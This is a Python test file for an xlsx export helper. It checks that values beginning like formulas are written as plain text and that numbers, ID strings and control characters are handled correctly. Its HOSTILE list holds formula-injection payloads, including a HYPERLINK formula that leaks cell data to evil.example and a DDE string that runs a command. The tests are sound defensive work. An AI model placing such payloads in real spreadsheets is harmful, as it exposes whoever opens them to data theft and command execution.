"""The one xlsx writer: text stays text, never a formula."""

from __future__ import annotations

import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from common.xlsx import workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_like_a_formula_is_written_as_text(value):
    content = workbook_bytes(["姓名"], [[value]])
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml  # no formula element anywhere
    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert cell.data_type == "s"
    assert cell.value.strip() == value.strip()  # XML reads a CR back as LF
    assert cell.number_format == "@"


def test_numbers_stay_numbers_and_id_numbers_stay_text():
    content = workbook_bytes(["身份证号", "人数"], [["360121199001011234", 3]])
    ws = load_workbook(io.BytesIO(content)).active
    assert ws["A2"].value == "360121199001011234"
    assert ws["B2"].value == 3
    assert ws["B2"].data_type == "n"


def test_control_characters_do_not_break_the_file():
    content = workbook_bytes(["备注"], [["坏\x00字\x07符"]])
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "坏字符"


def test_a_row_of_every_kind_reads_back_as_written():
    # rows go through a template per shape (plain text, numbers as they print, empty) or,
    # for anything else in them, cell by cell: both ways read back the same
    rows = [
        ["王大明", 4, Decimal("3.50"), "", None, "一组"],  # the template way
        ["王大明", 4, Decimal("3.50"), "", None, "一组"],  # the same shape again
        ["A&B <c>", 4, Decimal("3.50"), "", None, "一组"],  # XML's specials: the cell way
        [" 前后有空格 ", 0, Decimal("0"), "x", "", None],  # spaces to keep
        [True, 1.5, datetime.date(2026, 11, 23), "=1+1", "坏\x01字", 10**15],
        ["短行"],  # a shorter row after longer ones
    ]
    ws = load_workbook(io.BytesIO(workbook_bytes(list("ABCDEF"), rows))).active
    read = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    assert read[0] == ["王大明", 4, 3.5, None, None, "一组"]
    assert read[1] == read[0]
    assert read[2] == ["A&B <c>", 4, 3.5, None, None, "一组"]
    assert read[3] == [" 前后有空格 ", 0, 0, "x", None, None]
    assert read[4][:2] == ["True", 1.5]
    assert read[4][2].date() == datetime.date(2026, 11, 23)
    assert read[4][3:] == ["=1+1", "坏字", 10**15]
    assert ws["D5"].data_type == "s"  # text, not a formula
    assert read[5] == ["短行", None, None, None, None, None]
